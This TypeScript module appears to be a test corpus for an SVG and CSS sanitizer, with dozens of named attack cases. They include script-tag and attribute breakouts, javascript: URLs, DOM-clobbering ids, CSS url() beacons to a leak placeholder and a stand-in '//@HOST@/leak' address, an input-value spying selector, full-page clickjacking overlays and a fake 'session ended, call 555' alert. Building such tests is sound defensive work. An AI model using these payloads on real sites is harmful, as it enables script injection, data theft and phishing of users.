import { attacks, attacksOf, LEAK, RUN, sheet, svg } from "./attack.ts";

const LIVE = `<g onclick="${RUN}"><rect width="9" height="9"/></g>`;

const PROTOTYPES = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "valueOf",
  "hasOwnProperty",
  "isPrototypeOf",
  "__defineGetter__",
  "__defineSetter__",
  "__lookupGetter__",
  "propertyIsEnumerable",
  "toLocaleString",
  "then",
  "toJSON",
  "length",
  "name",
];

/** Names that a page knows: an element with such an id stands in for it. */
const CLOBBERS = [
  "location",
  "body",
  "document",
  "window",
  "top",
  "self",
  "parent",
  "forms",
  "cookie",
  "domain",
  "getElementById",
  "querySelector",
  "createElement",
  "attributes",
  "childNodes",
  "nodeName",
  "firstChild",
  "documentElement",
  "head",
  "__NEXT_DATA__",
  "__next_f",
  "next",
  "fetch",
  "React",
  "main",
  "root",
];

/** Ids and classes that try to leave the place they stand in. */
const ESCAPES: Record<string, string> = {
  "a tag's end": `a&quot;&gt;&lt;script&gt;${RUN}&lt;/script&gt;`,
  "a tag's end, single quote": `a'&gt;&lt;script&gt;${RUN}&lt;/script&gt;`,
  "an attribute": `a&quot; onclick=&quot;${RUN}`,
  "a bracket": `a)url(${LEAK}`,
  "a quote and a bracket": `a'),url('${LEAK}`,
  "a brace": `a{}*{mask-image:url(${LEAK})}`,
  "a closing brace": `a}*{mask-image:url(${LEAK})}b{`,
  "a comma": `a,*`,
  "a space": `a b`,
  "a comment": `a/*`,
  "a semicolon": `a;mask-image:url(${LEAK})`,
  "a style's end": `a&lt;/style&gt;&lt;script&gt;${RUN}&lt;/script&gt;`,
  "an escape": String.raw`a\7d *\7b mask-image\3a url(${LEAK})\7d `,
  "a backslash at the end": "a\\",
  "a newline": "a\nb",
  NUL: "a\0b",
  "a colon": "a:hover",
  "a dot": "a.click",
  "a dot and an event": `a.click;0s`,
  "a bracket of an array": "a[onclick]",
  "a hash": "#a",
  "two hashes": "##a",
  "a slash": `//@HOST@/leak?vector=@N@#a`,
  "a scheme": `javascript:${RUN}`,
  nothing: "",
  "a space alone": " ",
  "a digit": "1",
  "a dash": "-",
  "two dashes": "--",
  "letters of Japan": "\u5f71",
  "half of a pair": "\ud83d",
  "a right-to-left mark": "\u202ea",
  "a very long one": "a".repeat(3000),
  "the prefix of another": "s1-s2-a",
};

export const names = [
  ...attacksOf("prototype name", PROTOTYPES, (name) =>
    svg(
      `<style>#${name},.${name},${name}{--${name}:1;${name}:url(${LEAK});animation:${name} 1s}@keyframes ${name}{to{opacity:0}}@${name}{}</style><${name} ${name}="1"/><${name}>x</${name}><rect id="${name}" class="${name}" ${name}="${RUN}" style="${name}:1;--${name}:2" fill="url(#${name})" onclick="${RUN}" width="9" height="9"><set attributeName="${name}" to="1" begin="${name}.end"/></rect><use href="#${name}"/>`,
      `${name}="1"`,
    ),
  ),
  ...attacksOf("clobbering id", CLOBBERS, (name) =>
    svg(
      `<a id="${name}" name="${name}" href="${LEAK}"><rect id="${name}" width="9" height="9" onclick="${RUN}"/></a>`,
    ),
  ),
  ...attacksOf("escaping id", Object.keys(ESCAPES), (name) => {
    const id = ESCAPES[name];
    return svg(
      `<style>#r{fill:red}</style><linearGradient id="${id}"/><rect id="r" fill="url(#${id})" filter="url('#${id}')" aria-labelledby="${id} r" width="9" height="9" onclick="${RUN}"><set attributeName="fill" to="url(#${id})" begin="${id}.end"/></rect><use href="#${id}"/>`,
    );
  }),
  ...attacksOf("escaping class", Object.keys(ESCAPES), (name) =>
    svg(
      `<style>.c{fill:red}</style><g class="${ESCAPES[name]} c" font-family="${ESCAPES[name]}" style="font-family:'${ESCAPES[name]}'"><rect width="9" height="9" onclick="${RUN}"/></g>`,
    ),
  ),
  ...attacks("page", {
    "body by a sheet": sheet(`body{display:none}html{background:url(${LEAK})}`),
    "everything by a sheet": sheet(`*{display:none!important;mask-image:url(${LEAK})}`),
    "the root by a sheet": sheet(
      `:root{--colour:red;background:url(${LEAK})}:host{display:none}:host-context(body){background:url(${LEAK})}`,
    ),
    "a part, a slot": sheet(`::slotted(*){display:none}::part(x){display:none}rect{mask-image:url(${LEAK})}`),
    "a sibling of the drawing": sheet(
      `svg ~ *,svg + *{display:none}svg ~ p{background:url(${LEAK})}rect{mask-image:url(${LEAK})}`,
    ),
    "a parent of the drawing": sheet(`:has(svg){display:none}body:has(rect){background:url(${LEAK})}`),
    "by is and where": sheet(`:is(body,html),:where(body *){display:none;background:url(${LEAK})}`),
    "by not": sheet(`:not(rect){display:none;background:url(${LEAK})}`),
    "by nth-child of": sheet(
      `:nth-child(n of body){display:none}rect:nth-child(n of *){mask-image:url(${LEAK})}`,
    ),
    "an attribute selector that spies": sheet(
      `input[value^="a"]{background:url(${LEAK})}rect[class^=c]{mask-image:url(${LEAK})}`,
    ),
    "an attribute selector with a bracket": sheet(
      `rect[class="]"]{fill:red}rect[class="c"],[class]{mask-image:url(${LEAK})}`,
    ),
    "an attribute selector unclosed": sheet(
      `rect[class="c{mask-image:url(${LEAK})}\nrect{mask-image:url(${LEAK})}`,
    ),
    "a visited link": sheet(
      `a:visited{fill:url(${LEAK})}a{mask-image:url(${LEAK})}`,
      `<a href="http://example.org/"><rect width="9" height="9"/></a>`,
    ),
    "a scroll to text": sheet(
      `::target-text{background:url(${LEAK})}::selection{color:red}rect{mask-image:url(${LEAK})}`,
    ),
    "before and after": sheet(
      `svg::before,svg::after,rect::after{content:url(${LEAK});position:fixed;inset:0}`,
    ),
    "a fixed overlay": svg(
      `<rect width="100%" height="100%" onclick="${RUN}"/>`,
      `style="position:fixed;inset:0;z-index:2147483647;width:100vw;height:100vh"`,
    ),
    "a fixed overlay by a sheet": sheet(
      `svg{position:fixed!important;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:url(${LEAK})}`,
    ),
    "an absolute overlay": svg(
      LIVE,
      `style="position:absolute;top:-999px;left:-999px;width:9999px;height:9999px"`,
    ),
    "an overlay by a variable": svg(LIVE, `style="--p:fixed;position:var(--p);inset:0"`),
    "an overlay with an escape": svg(LIVE, String.raw`style="p\6fsition:f\69xed;inset:0"`),
    "an overlay with a comment": svg(LIVE, `style="position/**/:/**/fixed;inset:0"`),
    "an overlay by an animation": sheet(
      `@keyframes k{0%,100%{position:fixed;inset:0;z-index:9;mask-image:url(${LEAK})}}svg,rect{animation:k 1s infinite}`,
    ),
    "an overlay by margins": svg(LIVE, `style="margin:-9999px;padding:9999px;float:left"`),
    "an overlay by an anchor": svg(
      LIVE,
      `style="position-anchor:--x;anchor-name:--x;position-area:top;inset-area:all"`,
    ),
    "the top layer": svg(LIVE, `style="overlay:auto;display:block" popover="manual"`),
    "a transform of the root": svg(LIVE, `style="transform:scale(1000);will-change:transform;contain:none"`),
    "all at once": sheet(`svg{all:initial;position:fixed}rect{all:unset;mask-image:url(${LEAK})}`),
    "the page's pointer": sheet(`svg{cursor:none}rect{cursor:url(${LEAK}),none;mask-image:url(${LEAK})}`),
    "the page's counters and quotes": sheet(
      `svg{counter-reset:page 99;quotes:"a" "b"}rect{mask-image:url(${LEAK})}`,
    ),
    "the page's keyframes": sheet(
      `@keyframes spin{to{display:none;mask-image:url(${LEAK})}from{mask-image:url(${LEAK})}}rect{animation:spin 1s}`,
    ),
    "the page's variables": sheet(
      `:root{--background:red}svg{--foreground:red}rect{mask-image:url(${LEAK})}`,
    ),
    "the page's container and timeline": sheet(
      `svg{container:page/size;view-timeline:--t;scroll-timeline:--t;view-transition-name:root}rect{mask-image:url(${LEAK})}`,
    ),
    "speech and user selection": svg(
      `<rect role="alert" aria-live="assertive" aria-label="Your session has ended, call 555" tabindex="0" onclick="${RUN}"/>`,
    ),
    "labels of the page's elements": svg(
      `<rect aria-labelledby="page-secret" aria-describedby="page-secret" aria-owns="page-secret" aria-controls="page-secret" onclick="${RUN}"/>`,
    ),
    "use of the page's elements": svg(
      `<use href="#page-secret"/><rect fill="url(#page-secret)" onclick="${RUN}"/>`,
    ),
    "animation begun by the page's elements": svg(
      `<rect onclick="${RUN}"><set attributeName="fill" to="red" begin="page-secret.click;page-link.focus"/></rect>`,
    ),
    "a link over all": svg(`<a href="${LEAK}" target="_top"><rect width="99" height="99"/></a>`),
    "a link by a view": svg(
      `<view id="v" viewBox="0 0 1 1"/><a href="#v"><rect width="9" height="9" onclick="${RUN}"/></a>`,
    ),
    "a name scoped like ours": sheet(
      `.s-drawing{position:fixed}rect{mask-image:url(${LEAK})}`,
      `<g class="s-drawing"><rect width="9" height="9"/></g>`,
    ),
  }),
];
